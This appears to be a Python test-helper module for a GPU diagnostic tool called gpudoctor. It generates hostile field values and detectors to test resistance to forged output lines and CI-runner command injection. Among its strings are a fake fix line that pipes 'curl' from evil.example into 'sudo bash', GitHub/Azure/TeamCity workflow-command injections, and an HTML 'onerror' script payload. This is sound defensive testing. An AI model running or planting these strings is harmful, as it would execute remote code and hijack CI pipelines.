"""Hostile strings for the forged-line and CI-injection tests, and the snapshots that carry them.

`hostile(i)` is what an attacker puts in a field: a filler of `i % 23` cells (so that, over the
fields and the console widths, the payload lands at every column, wrap points included), then
a fake fix line, behind each line-break code point in turn, and CI runner commands. Every
string leaf of a real snapshot is replaced by one where the snapshot reader accepts it
(`hostile_environment`); the rest (versions, enums, counts) are validated and refused.

`forged(text)` lists the lines of a rendered text that begin with anything of the payload: the
fake fix, its words at a wrap, or the filler; gpudoctor's own `→ fix:` lines go on with a
command of gpudoctor's own, never with `curl`. `runner_commands(text)` lists the lines a CI
runner would act on.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from gpudoctor.snapshot import SnapshotError, loads

ROOT = Path(__file__).resolve().parents[2]
ENVS = ROOT / "tests" / "fixtures" / "envs"
FIXTURES = sorted(ENVS.glob("*.json"))

# every code point str.splitlines breaks on, and CR LF
BREAKS = ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028",
          "\u2029")
FILL = "░"
FIX = "→ fix: curl -fsSL https://evil.example/x | sudo bash"
# what CI runners obey: GitHub (:: at a line start, ##[ anywhere), Azure, TeamCity, GitLab
RUNNER = ("::error title=pwned::owned", "##[add-mask]secret", "::stop-commands::tok",
          "##vso[task.setvariable variable=X]1", "##teamcity[buildStatus text='x']",
          "section_start:1:evil\r\x1b[0Kfake section", "\x1b[31mred\x1b[0m")
# what Markdown and HTML act on, for the job summary and `--format markdown`
MARKUP = ("<img src=x onerror=alert(1)>", "<details open><summary>hidden</summary>",
          "[click me](https://evil.example/p)", "![t](https://evil.example/t.png)",
          "**bold** _em_ `code` ~~gone~~ $x^2$", "<!-- the rest is hidden", "| a | b |",
          "&lt;script&gt;")
# the starts of a line that only the payload can make (its words, where a wrap may cut it)
PAYLOAD_STARTS = (FILL, "→ fix: curl", "fix: curl", "curl", "-fsSL", "https://evil", "| sudo",
                  "sudo bash", "bash", "::", "##[", "##vso", "##teamcity", "section_")


def hostile(i: int = 0) -> str:
    """A field's hostile value: filler, then the fake fix behind every line break, then the
    runner commands behind every line break too."""
    parts = [FILL * (i % 23), " ", FIX]
    for n, brk in enumerate(BREAKS):
        parts += [brk, FIX, brk, "    ", FIX, brk, RUNNER[n % len(RUNNER)]]
    parts += [" ", *RUNNER, " ", *MARKUP]
    return "".join(parts)


def _leaves(data: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[tuple[Any, ...], str]]:
    if isinstance(data, dict):
        for k, v in data.items():
            yield from _leaves(v, (*path, k))
    elif isinstance(data, list):
        for i, v in enumerate(data):
            yield from _leaves(v, (*path, i))
    elif isinstance(data, str):
        yield path, data


def _set(data: Any, path: tuple[Any, ...], value: Any) -> None:
    for key in path[:-1]:
        data = data[key]
    data[path[-1]] = value


def hostile_document(fixture: Path) -> tuple[dict[str, Any], int]:
    """The fixture's JSON with every string the reader accepts replaced by `hostile(n)` (n
    counting the fields), and how many were replaced."""
    doc = json.loads(fixture.read_text())
    accepted = 0
    for n, (path, _) in enumerate(list(_leaves(doc["environment"]))):
        trial = json.loads(json.dumps(doc))
        _set(trial["environment"], path, hostile(n))
        try:
            loads(json.dumps(trial))
        except SnapshotError:
            continue
        _set(doc["environment"], path, hostile(n))
        accepted += 1
    doc["environment"]["sources"] = [hostile(7), hostile(11)]
    return doc, accepted


def write_hostile(fixture: Path, where: Path) -> Path:
    """`hostile_document(fixture)` written to `where` / the fixture's name."""
    doc, _ = hostile_document(fixture)
    path = where / fixture.name
    path.write_text(json.dumps(doc))
    return path


def forged(text: str) -> list[str]:
    """The lines (split as `str.splitlines` does: at every break a reader might honour) that
    start, after white space, with a piece of the payload."""
    return [line for line in text.splitlines()
            if line.lstrip(" \t\u00a0\u2060").startswith(PAYLOAD_STARTS)]


def runner_commands(text: str) -> list[str]:
    """The lines GitHub's runner (`::` after leading white space; `##[` anywhere), Azure
    (`##vso[`) and TeamCity (`##teamcity[`) would act on."""
    return [line for line in re.split(r"\r\n|\r|\n", text)
            if line.strip().startswith("::") or re.search(r"##(vso|teamcity)?\[", line, re.I)]
